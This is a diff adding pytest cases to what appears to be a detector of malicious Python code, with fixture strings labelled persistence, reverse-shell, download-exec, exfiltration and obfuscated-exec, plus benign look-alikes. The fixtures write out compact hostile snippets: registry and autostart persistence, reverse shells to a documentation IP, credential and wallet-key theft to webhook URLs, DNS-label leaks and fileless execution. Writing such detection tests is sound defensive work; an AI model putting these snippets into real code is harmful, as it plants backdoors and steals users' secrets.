@@ -501,3 +501,178 @@ def test_a_download_checked_against_a_pinned_digest_is_not_download_exec() -> No
 ])
 def test_download_cradles_in_commands_and_their_input(source: str, kinds: set[str]) -> None:
     assert kinds <= types(source)
+
+
+# --- generalized shapes: persistence, shells, downloads, values, indirection -----------------
+
+_GENERAL_POSITIVES = [
+    # XDG autostart entry written at import
+    ("import os\np = os.path.expanduser('~/.config/autostart/upd.desktop')\n"
+     "with open(p, 'w') as f:\n    f.write('[Desktop Entry]\\nExec=/tmp/x\\n')\n", "persistence"),
+    # macOS login item through osascript
+    ("import subprocess\nsubprocess.run(['osascript', '-e', 'tell application \"System Events\" "
+     "to make login item at end with properties {path:\"/tmp/x.app\"}'])\n", "persistence"),
+    # Run value through PowerShell
+    ("import subprocess\nsubprocess.run(['powershell', '-c', r'New-ItemProperty -Path "
+     r"HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name u -Value C:\x.exe'])" "\n",
+     "persistence"),
+    ("import subprocess\nsubprocess.run('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\"
+     "CurrentVersion\\\\RunOnce /v u /d x.exe', shell=True)\n", "persistence"),
+    # Run value through advapi32 with ctypes
+    ("import ctypes\nadv = ctypes.windll.advapi32\nk = ctypes.c_void_p()\n"
+     "adv.RegOpenKeyExW(0x80000001, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run',"
+     " 0, 0x20006, ctypes.byref(k))\nadv.RegSetValueExW(k, 'u', 0, 1, 'C:\\\\x.exe', 20)\n",
+     "persistence"),
+    # asyncio streams relayed to a shell
+    ("import asyncio\nasync def main():\n"
+     "    r, w = await asyncio.open_connection('203.0.113.7', 443)\n"
+     "    p = await asyncio.create_subprocess_exec('/bin/sh', stdin=asyncio.subprocess.PIPE,"
+     " stdout=asyncio.subprocess.PIPE)\n    p.stdin.write(await r.read(1024))\n"
+     "asyncio.run(main())\n", "reverse-shell"),
+    # pty.fork child runs a shell, the parent relays it to a socket with select
+    ("import os, pty, select, socket\ns = socket.socket()\ns.connect(('203.0.113.7', 443))\n"
+     "pid, fd = pty.fork()\nif pid == 0:\n    os.execv('/bin/sh', ['sh'])\n"
+     "r, _, _ = select.select([s, fd], [], [])\nos.write(fd, s.recv(1024))\n", "reverse-shell"),
+    # os.open/os.write then posix_spawn
+    ("import os, urllib.request\ndata = urllib.request.urlopen('https://example.invalid/m').read()"
+     "\nfd = os.open('/tmp/m', os.O_WRONLY | os.O_CREAT, 0o755)\nos.write(fd, data)\n"
+     "os.posix_spawn('/tmp/m', ['/tmp/m'], {})\n", "download-exec"),
+    # pycurl writing into a file that is then run
+    ("import pycurl, subprocess\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://example.invalid/m')\n"
+     "f = open('/tmp/m', 'wb')\nc.setopt(c.WRITEDATA, f)\nc.perform()\nf.close()\n"
+     "subprocess.Popen(['/tmp/m'])\n", "download-exec"),
+    # pathlib write then os.execv
+    ("import pathlib, os, requests\ndata = requests.get('https://example.invalid/m').content\n"
+     "p = pathlib.Path('/tmp/m')\np.write_bytes(data)\nos.execv(str(p), [str(p)])\n",
+     "download-exec"),
+    # a hand-written GET over a raw socket
+    ("import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.7', 80))\n"
+     "s.send(b'GET /a HTTP/1.0\\r\\n\\r\\n')\ndata = s.recv(100000)\n"
+     "open('/tmp/a', 'wb').write(data)\nsubprocess.Popen(['/tmp/a'])\n", "download-exec"),
+    # credentials held by a library object, sent to a webhook
+    ("import boto3, requests\nc = boto3.Session().get_credentials()\n"
+     "requests.post('https://webhook.site/0000', json={'k': c.access_key})\n", "exfiltration"),
+    # a decorator that sees the caller's password
+    ("import functools, requests\ndef log(f):\n    @functools.wraps(f)\n"
+     "    def w(host, user, password):\n"
+     "        requests.post('http://203.0.113.5/c', data={'h': host, 'p': password})\n"
+     "        return f(host, user, password)\n    return w\n", "exfiltration"),
+    # a patched method reading a key from its keyword arguments
+    ("import requests\ndef patched(self, *a, **kw):\n"
+     "    requests.post('https://discord.com/api/webhooks/0/x', json={'k': kw['private_key']})\n",
+     "exfiltration"),
+    # file contents hex-encoded into DNS labels
+    ("import socket\ndata = open('notes.txt').read().encode().hex()\n"
+     "for i in range(0, len(data), 60):\n"
+     "    socket.gethostbyname(data[i:i + 60] + '.x.example.invalid')\n", "exfiltration"),
+    # exec fetched from a builtins mapping
+    ("import base64, builtins\nvars(builtins)['ex' + 'ec'](base64.b64decode(P))\n",
+     "obfuscated-exec"),
+    ("import base64\nglobals()['__builtins__']['exec'](base64.b64decode(P))\n",
+     "obfuscated-exec"),
+    # a translate() table as the decoder
+    ("T = str.maketrans('abc', 'bca')\nexec(P.translate(T))\n", "obfuscated-exec"),
+    # XOR-decoded bytes dropped and loaded as a native library
+    ("import ctypes, tempfile\nblob = bytes(b ^ 0x5A for b in DATA)\n"
+     "p = tempfile.gettempdir() + '/x.dll'\nopen(p, 'wb').write(blob)\nctypes.CDLL(p)\n",
+     "obfuscated-exec"),
+    # streamed response copied into a file that is then run
+    ("import requests, shutil, subprocess\nr = requests.get('https://example.invalid/a', "
+     "stream=True)\nwith open('/tmp/a', 'wb') as f:\n    shutil.copyfileobj(r.raw, f)\n"
+     "subprocess.Popen(['/tmp/a'])\n", "download-exec"),
+    # aiohttp download read inside nested async with blocks
+    ("import aiohttp, os\nasync def go():\n    async with aiohttp.ClientSession() as s:\n"
+     "        async with s.get('https://example.invalid/a') as r:\n"
+     "            data = await r.read()\n    with open('/tmp/a', 'wb') as f:\n"
+     "        f.write(data)\n    os.execv('/tmp/a', ['/tmp/a'])\n", "download-exec"),
+    # mkstemp's descriptor written, its path started
+    ("import os, tempfile, urllib.request\n"
+     "d = urllib.request.urlopen('https://example.invalid/a').read()\n"
+     "fd, path = tempfile.mkstemp(suffix='.exe')\nos.write(fd, d)\nos.startfile(path)\n",
+     "download-exec"),
+    # fileless: decoded bytes in a memfd run through /proc/self/fd
+    ("import os, base64\nfd = os.memfd_create('x')\nos.write(fd, base64.b64decode(BLOB))\n"
+     "os.execv(f'/proc/self/fd/{fd}', ['x'])\n", "obfuscated-exec"),
+    # a shell beside a socket connected to a decoded address
+    ("import socket, subprocess, base64\nh = base64.b64decode('MjAzLjAuMTEzLjc=').decode()\n"
+     "s = socket.socket()\ns.connect((h, 443))\n"
+     "p = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n",
+     "reverse-shell"),
+    # the user name as a DNS label
+    ("import socket, os\nsocket.getaddrinfo(os.getlogin() + '.x.example.invalid', 80)\n",
+     "exfiltration"),
+    # a credential store's API, a wallet library's key, a secret class attribute
+    ("import keyring, requests\np = keyring.get_password('svc', 'me')\n"
+     "requests.post('http://203.0.113.9/p', data=p)\n", "exfiltration"),
+    ("from eth_account import Account\nimport requests\nacct = Account.create()\n"
+     "requests.post('https://discord.com/api/webhooks/1/x', json={'c': acct.key.hex()})\n",
+     "exfiltration"),
+    ("import requests\nclass Wallet:\n    def __init_subclass__(cls, **kw):\n"
+     "        requests.post('http://203.0.113.9/w', json={'k': getattr(cls, 'PRIVATE_KEY')})\n",
+     "exfiltration"),
+    # code pushed off screen after 200 blanks
+    ("from setuptools import setup\nsetup(name='x')" + " " * 200 + ";import os;os.system('id')\n",
+     "obfuscated-exec"),
+]
+
+
+@pytest.mark.parametrize(("source", "kind"), _GENERAL_POSITIVES)
+def test_generalized_threat_shapes(source: str, kind: str) -> None:
+    assert kind in types(source)
+
+
+def test_generalized_chains_name_their_steps() -> None:
+    [found] = threats("import boto3, requests\nc = boto3.Session().get_credentials()\n"
+                      "requests.post('https://webhook.site/0000', json={'k': c.access_key})\n")
+    assert found.reason == (
+        "Takes credentials with `.get_credentials()` (pkg/mod.py:2) and sends it to a "
+        "data-capture endpoint (`https://webhook.site/0000`) with `requests.post` "
+        "(pkg/mod.py:3).")
+    [dns] = threats("import socket, base64\ndef leak(d):\n"
+                    "    name = base64.b32encode(d).decode() + '.example.invalid'\n"
+                    "    socket.getaddrinfo(name, 53)\n")
+    assert dns.type is AlertType.EXFILTRATION and "DNS name" in dns.reason
+
+
+@pytest.mark.parametrize("source", [
+    # a desktop app's "start at login" option, written when the user turns it on
+    "import os\ndef enable_autostart():\n"
+    "    with open(os.path.expanduser('~/.config/autostart/app.desktop'), 'w') as f:\n"
+    "        f.write('[Desktop Entry]\\nExec=app\\n')\n",
+    # an SSH-like client sending the caller's password to the caller's host
+    "import socket\ndef connect(hostname, username, password):\n"
+    "    s = socket.create_connection((hostname, 22))\n    s.sendall(password.encode())\n",
+    # a client object sending its own key to its own API
+    "import requests\nclass Client:\n    def __init__(self, api_key):\n"
+    "        self.api_key = api_key\n    def call(self):\n"
+    "        return requests.post('https://api.example.com/v1', headers={'k': self.api_key})\n",
+    # resolving a computed host name that carries no encoded data
+    "import socket\ndef lookup(bucket):\n"
+    "    return socket.gethostbyname(f'{bucket}.s3.example.com')\n",
+    # a terminal emulator: an interactive shell on a pty, no remote connection
+    "import os, pty, subprocess\ndef term():\n    pid, fd = pty.fork()\n    if pid == 0:\n"
+    "        os.execv('/bin/bash', ['bash'])\n"
+    "def console():\n    subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE)\n",
+    # a remote job runner: a shell with a command to run beside a connection
+    "import socket, subprocess\ns = socket.create_connection(('203.0.113.7', 9000))\n"
+    "subprocess.run(['/bin/sh', '-c', 'make test'], stdout=subprocess.PIPE)\n",
+    # blanks inside a string literal before code-looking words are layout
+    "HELP = 'usage: tool" + " " * 120 + "import the data'\n",
+    # resolving this machine's own name, bare or on the local network
+    "import socket\nip = socket.gethostbyname(socket.gethostname())\n"
+    "mdns = socket.gethostbyname(socket.gethostname() + '.local')\n",
+    # an optional import that falls back to None is still the module where it imports
+    "try:\n    import requests\nexcept ImportError:\n    requests = None\n"
+    "def fetch(url):\n    return requests.get(url).json()\n",
+    # a keyring-backed client authenticating to the host it was given
+    "import keyring, requests\ndef login(url, user):\n"
+    "    return requests.post(url, auth=(user, keyring.get_password('svc', user)))\n",
+    # a CGI server: a decoded Authorization header goes into the child's environment
+    "import base64, os\ndef run_cgi(auth, script):\n"
+    "    user = base64.decodebytes(auth.encode())\n    env = {'REMOTE_USER': user}\n"
+    "    if user:\n        env['AUTH_TYPE'] = 'basic'\n    os.execve(script, [script], env)\n",
+    # str.translate for ordinary text normalization, not run
+    "T = str.maketrans('abc', 'xyz')\nprint('abc'.translate(T))\n",
+])
+def test_generalized_benign_look_alikes_are_quiet(source: str) -> None:
+    assert types(source) == set()
